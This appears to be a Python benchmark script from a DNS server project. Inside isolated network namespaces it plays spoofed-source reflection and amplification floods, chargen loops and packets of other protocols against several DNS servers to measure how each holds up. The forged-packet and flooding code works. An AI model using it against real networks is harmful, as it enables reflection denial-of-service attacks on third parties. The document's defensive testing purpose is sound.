#!/usr/bin/env python3
"""The attacks of ATTACKS.md, played against cadence-dns, gdnsd, Knot, NSD and BIND: who holds?

    cargo build && tests/bench/attacks.py

As root on Linux, with the servers of Debian 12: apt-get install gdnsd knot nsd bind9 iproute2 (Debian also starts
them; stop those). All of it happens in namespaces of its own, which are gone afterwards:

    attacker 10.7.2.10 ──┐
                         ├── router ── home 10.7.1.10, the server on port 53
    victim   10.7.3.10 ──┘             (10.7.1.130 to .249 are absent)

The attacker forges any source. Each server runs alone, with two threads where it can be told, and with the rate limit
that it has: 200 replies a second (Knot: mod-rrl, BIND: rate-limit; gdnsd has none). What is counted is what arrives.
Figures move with the machine; the last column of a row says what is asked of a server, which does not.
"""

import argparse
import ctypes
import os
import random
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.dont_write_bytecode = True  # We run as root, in somebody's repository.
from peers_dns import query

ROOT = Path(__file__).resolve().parents[2]
ORIGIN = "cadence.example.com"
SERVER, VICTIM, SITES = "10.7.1.10", "10.7.3.10", {"home": 1, "attacker": 2, "victim": 3}
NAMES = 800
INSIDE = "CADENCE_ATTACKS_FOLDER"
CLONE_NEWNET = 0x40000000

# ------------------------------------------------------------------------------------------------------- the network


def run(command):
    subprocess.run(command.split(), check=True)


def build_network(at_home):
    """A router, which is where we are, and a site for each of SITES; sysctl settings for the server's."""
    run("mount -t tmpfs none /run/netns") if Path("/run/netns").is_dir() else os.makedirs("/run/netns")
    run("ip link set lo up")
    for name, number in SITES.items():
        run(f"ip netns add {name}")
        run(f"ip link add {name} type veth peer name eth0 netns {name}")
        run(f"ip addr add 10.7.{number}.1/24 dev {name}")
        run(f"ip link set {name} up")
        for command in ("link set lo up", f"addr add 10.7.{number}.10/24 dev eth0", "link set eth0 up",
                        f"route add default via 10.7.{number}.1"):
            run(f"ip -n {name} {command}")
    for key in ["net.ipv4.ip_forward=1", *(f"net.ipv4.conf.{name}.rp_filter=0" for name in ("all", *SITES))]:
        run(f"sysctl -qw {key}")
    for key in at_home:
        run(f"ip netns exec home sysctl -qw {key}")
    # Many networks, all of them the victim's: queries from there are limited by nobody.
    run(f"ip route add 100.64.0.0/10 via {VICTIM}")
    run("ip -n victim route add local 100.64.0.0/10 dev lo")


def inside(site, make):
    """What `make` returns, called in a site by a thread of its own; sockets stay where they were made."""
    made = []

    def enter():
        with open(f"/run/netns/{site}") as namespace:
            if ctypes.CDLL(None, use_errno=True).setns(namespace.fileno(), CLONE_NEWNET) != 0:
                raise OSError(ctypes.get_errno(), "setns")
        made.append(make())

    thread = threading.Thread(target=enter)
    thread.start()
    thread.join()
    return made[0]


def udp(address, port):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE: what comes is counted, however fast
    udp.bind((address, port))
    udp.setblocking(False)
    return udp


def forged(source, port, payload):
    """A packet for a raw socket; the kernel fills in checksum and identification, and UDP may do without."""
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(SERVER))
    return header + struct.pack(">HHHH", port, 53, 8 + len(payload), 0) + payload


class Attacker:
    def __init__(self):
        self.raw = inside("attacker", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))

    def send(self, source, port, payload):
        self.raw.sendto(forged(source, port, payload), (SERVER, 0))

    def flood(self, packets, rate, seconds):
        """Sends the packets in turn; returns how many."""
        begin, sent = time.monotonic(), 0
        while (elapsed := time.monotonic() - begin) < seconds:
            while sent < elapsed * rate:
                self.send(*packets[sent % len(packets)])
                sent += 1
            time.sleep(0.0005)
        return sent


def drain(receiver, patience=0.3):
    """Everything that comes until nothing does."""
    messages = []
    while select.select([receiver], [], [], patience)[0]:
        messages.append(receiver.recv(4096))
    return messages


# ------------------------------------------------------------------------------------------------------- the servers

CONFIGS = {
    "cadence-dns": ("config", """[node]
name = "attacked"
state_dir = "$folder/state"
[dns]
listen = ["10.7.1.10:53"]
workers = 2
[control]
socket = "$folder/control.sock"
[[zone]]
name = "cadence.example.com"
file = "$folder/zones/cadence.example.com"
"""),
    "gdnsd": ("config", """options => { listen => 10.7.1.10:53, udp_threads => 2, tcp_threads => 1, run_dir => $folder,
state_dir => $folder/state }
"""),
    "knot": ("config", """server:
    rundir: "$folder"
    listen: 10.7.1.10@53
    udp-workers: 2
database:
    storage: "$folder/state"
mod-rrl:
  - id: default
    rate-limit: 200
    slip: 2
template:
  - id: default
    global-module: mod-rrl/default
zone:
  - domain: cadence.example.com
    file: "$folder/zones/cadence.example.com"
    zonefile-sync: -1
    journal-content: none
"""),
    "nsd": ("config", """server:
  ip-address: 10.7.1.10@53
  server-count: 2
  username: ""
  database: ""
  pidfile: "$folder/nsd.pid"
  xfrdfile: "$folder/state/xfrd"
  zonelistfile: "$folder/state/zones"
  xfrdir: "$folder"
  rrl-ratelimit: 200
remote-control:
  control-enable: no
zone:
  name: cadence.example.com
  zonefile: "$folder/zones/cadence.example.com"
"""),
    "bind": ("config", """options {
  directory "$folder"; pid-file "$folder/named.pid"; session-keyfile "$folder/session.key";
  listen-on { 10.7.1.10; }; listen-on-v6 { none; }; recursion no; dnssec-validation no;
  rate-limit { responses-per-second 200; slip 2; window 1; };
};
controls { };
zone "cadence.example.com" { type primary; file "$folder/zones/cadence.example.com"; };
"""),
}
# The buffers that an ordinary Linux grants to programs without CAP_NET_ADMIN.
SMALL = "workers = 2\nreceive_buffer = 212992\nsend_buffer = 212992"
CONFIGS["cadence-dns-small"] = ("config", CONFIGS["cadence-dns"][1].replace("workers = 2", SMALL))
COMMANDS = {
    "cadence-dns": "$binary run --config $folder/config",
    "cadence-dns-small": "$binary run --config $folder/config",
    "gdnsd": "gdnsd -c $folder start",
    "knot": "knotd -c $folder/config",
    "nsd": "nsd -d -c $folder/config",
    "bind": "named -g -n 2 -c $folder/config",
}


def zone():
    lines = [f"$ORIGIN {ORIGIN}.", "$TTL 300", "@ SOA ns1 hostmaster 1 3600 600 604800 60", "@ NS ns1",
             "ns1 A 192.0.2.53", "www A 192.0.2.1"]
    lines += [f'big TXT "{i:0100}"' for i in range(9)]
    lines += [f"h{i} A 10.1.{i >> 8}.{i & 255}" for i in range(NAMES)]
    return "\n".join(lines) + "\n"


class Server:
    """A server at home; it ends with the `with`."""

    def __init__(self, name, binary, folder):
        self.folder = folder / name
        for each in ("state", "zones"):
            (self.folder / each).mkdir(parents=True)
        (self.folder / "zones" / ORIGIN).write_text(zone())
        file, text = CONFIGS[name]
        (self.folder / file).write_text(text.replace("$folder", str(self.folder)))
        command = COMMANDS[name].replace("$folder", str(self.folder)).replace("$binary", str(binary))
        self.log = open(self.folder / "log", "w")
        self.process = subprocess.Popen(["ip", "netns", "exec", "home", *command.split()], stdout=self.log,
                                        stderr=self.log, stdin=subprocess.DEVNULL, start_new_session=True)

    def __enter__(self):
        client = inside("victim", lambda: udp(VICTIM, 0))
        for _ in range(300):
            client.sendto(query(f"www.{ORIGIN}", "A"), (SERVER, 53))
            if any(len(message) > 40 for message in drain(client, 0.1)):
                return self
        sys.exit(f"it does not answer; its log:\n{(self.folder / 'log').read_text()[-2000:]}")

    def __exit__(self, *_):
        os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait()

    def stop_for(self, seconds, meanwhile):
        os.killpg(self.process.pid, signal.SIGSTOP)
        meanwhile()
        time.sleep(seconds)
        os.killpg(self.process.pid, signal.SIGCONT)


# ------------------------------------------------------------------------------------------------------- the attacks


def with_cookie(message):
    """The query with a client cookie in its OPT, which stands last."""
    return message[:-2] + struct.pack(">HHH", 12, 10, 8) + b"12345678"


def whole(message):
    """Whether a reply has an answer."""
    return message[3] & 15 == 0 and message[6:8] != b"\0\0"


def absent_neighbours(attacker, _server, rate):
    """How many innocent queries are answered within 150 ms while absent hosts of the server's own link ask."""
    luck = random.Random(7)
    packets = [(f"10.7.1.{luck.randrange(130, 250)}", luck.randrange(1024, 65536), query(f"h{i}.{ORIGIN}", "A"))
               for i in range(NAMES)]
    flooding = threading.Thread(target=attacker.flood, args=(packets, rate, 8))
    flooding.start()
    time.sleep(4)
    client, answered, asked = inside("victim", lambda: udp(VICTIM, 0)), 0, 100
    for _ in range(asked):
        client.sendto(query(f"www.{ORIGIN}", "A"), (SERVER, 53))
        answered += bool(drain_one(client))
        time.sleep(0.01)
    flooding.join()
    return f"{answered} of {asked}"


def drain_one(client):
    return client.recv(4096) if select.select([client], [], [], 0.15)[0] else None


def reflected(attacker, messages):
    """What a victim gets of 20,000 queries in two seconds: whole replies, and octets for each octet that was sent."""
    victim = inside("victim", lambda: udp(VICTIM, 4000))
    got = []
    ended = threading.Event()

    def receive():
        while not ended.is_set():
            got.extend(drain(victim, 0.1))

    receiving = threading.Thread(target=receive)
    receiving.start()
    sent = attacker.flood([(VICTIM, 4000, message) for message in messages], 10_000, 2)
    time.sleep(0.5)
    ended.set()
    receiving.join()
    octets_in = sum(len(messages[number % len(messages)]) for number in range(sent))
    octets = sum(map(len, got))
    return f"{sum(map(whole, got))} of {sent}, {octets / octets_in:.2f} ×"


def one_thing(attacker, _server):
    return reflected(attacker, [query(f"big.{ORIGIN}", "TXT")])


def one_thing_with_cookie(attacker, _server):
    return reflected(attacker, [with_cookie(query(f"www.{ORIGIN}", "A"))])


def many_things(attacker, _server):
    return reflected(attacker, [query(f"h{i}.{ORIGIN}", "A") for i in range(NAMES)])


LINE = bytes(range(33, 33 + 72)) + b"\r\n"


def chargen(attacker, _server, port):
    """How often a service that answers every datagram with a line is answered within two seconds of one forged query."""
    service, turns = inside("victim", lambda: udp(VICTIM, port)), 0
    attacker.send(VICTIM, port, query(f"www.{ORIGIN}", "A"))
    end = time.monotonic() + 2
    while time.monotonic() < end:
        if select.select([service], [], [], 0.1)[0]:
            service.recv(4096)
            service.sendto(LINE, (SERVER, 53))
            turns += 1
    return f"{turns}"


NO_QUERIES = [
    LINE,
    b"Sunday, November 29, 2026 06:00:00-UTC\r\n",
    b"\0\5\0\4Illegal TFTP operation\0",
    bytes.fromhex("240206e900000a1b0000053ec0000201ec9a112200000000ec9a112280000000ec9a112290000000ec9a1122a0000000"),
    b"\x30\x26\2\1\1\4\6public\xa2\x19\2\1\1\2\1\0",
    b"\x30\x84\0\0\0\x2d\2\1\7\x65\x84\0\0\0\x24\x0a\1\0",
    b"\0\7\0\0\0\1\0\0ERROR\r\n",
    b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n",
    b"SIP/2.0 200 OK\r\n\r\n",
    b"\1\1\0\x0c\x21\x12\xa4\x42\1\2\3\4\5\6\7\x08\x09\x0a\x0b\x0c",
]


def no_queries(attacker, _server):
    """How many messages of other protocols get a reply."""
    victim = inside("victim", lambda: udp(VICTIM, 4001))
    for message in NO_QUERIES:
        attacker.send(VICTIM, 4001, message)
        time.sleep(0.01)
    return f"{len(drain(victim))} of {len(NO_QUERIES)}"


def stall(attacker, server):
    """How many of 5,000 queries, each from another network, are answered that come while the server stands still."""
    everywhere = inside("victim", lambda: udp("0.0.0.0", 4002))
    ask = query(f"www.{ORIGIN}", "A")

    def burst():
        for number in range(5000):
            attacker.send(f"100.{64 + (number >> 8)}.{number & 255}.1", 4002, ask)

    server.stop_for(0.1, burst)
    return f"{len(drain(everywhere, 1))} of 5000"


ATTACKS = [
    ("absent neighbours, 400 q/s: innocent queries answered", lambda *a: absent_neighbours(*a, 400), "all"),
    ("absent neighbours, 2,000 q/s: the same", lambda *a: absent_neighbours(*a, 2000), "all"),
    ("one thing, 10,000 q/s for 2 s: whole replies, octets out for each in", one_thing, "600 at most"),
    ("the same with a client cookie", one_thing_with_cookie, "600 at most, below 1 ×"),
    (f"{NAMES} things in turn, 10,000 q/s for 2 s", many_things, "6,000 at most"),
    ("chargen at port 19: turns in 2 s", lambda *a: chargen(*a, 19), "0"),
    ("the same at port 4019", lambda *a: chargen(*a, 4019), "1"),
    ("messages of other protocols: replies", no_queries, "0"),
    ("5,000 queries while it stands still: answered", stall, "all"),
]


def play(options, folder):
    build_network(options.sysctl)
    attacker = Attacker()
    attacks = [attack for attack in ATTACKS if options.attacks in attack[0]]
    table = {attack: [] for attack, _, _ in attacks}
    for name in options.servers:
        with Server(name, options.binary, folder) as server:
            for attack, played, _ in attacks:
                outcome = played(attacker, server)
                print(f"{name}: {attack}: {outcome}", file=sys.stderr, flush=True)
                table[attack].append(outcome)
                time.sleep(1.2)  # every rate limit has its credit again
    print(f"| attack | {' | '.join(options.servers)} | holds |\n|---|{'---:|' * len(options.servers)}---|")
    for attack, _, holds in attacks:
        print(f"| {attack} | {' | '.join(table[attack])} | {holds} |")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--servers", type=lambda text: text.split(","), default=[*COMMANDS], metavar="A,B",
                        help=f"of {', '.join(COMMANDS)}; all by default")
    parser.add_argument("--binary", type=Path, default=ROOT / "target/debug/cadence-dns",
                        help="of cadence-dns; default: %(default)s")
    parser.add_argument("--sysctl", action="append", default=[], metavar="KEY=VALUE",
                        help="in the namespace of the server, such as net.ipv4.neigh.eth0.unres_qlen_bytes=4096")
    parser.add_argument("--attacks", default="", metavar="TEXT", help="only those with this text in their names")
    options = parser.parse_args()
    if wrong := set(options.servers) - set(COMMANDS):
        parser.error(f"--servers: {wrong}")
    if os.geteuid() != 0:
        sys.exit("this makes network namespaces and forges packets: run it as root")
    if folder := os.environ.get(INSIDE):
        return play(options, Path(folder))
    with tempfile.TemporaryDirectory(prefix="cadence-attacks-") as folder:
        os.chmod(folder, 0o755)
        child = subprocess.Popen(
            ["unshare", "--net", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", sys.executable,
             *sys.argv], env=os.environ | {INSIDE: folder}, start_new_session=True)
        try:
            return child.wait()
        finally:
            if child.poll() is None:
                os.killpg(child.pid, signal.SIGTERM)
                child.wait()


if __name__ == "__main__":
    sys.exit(main())
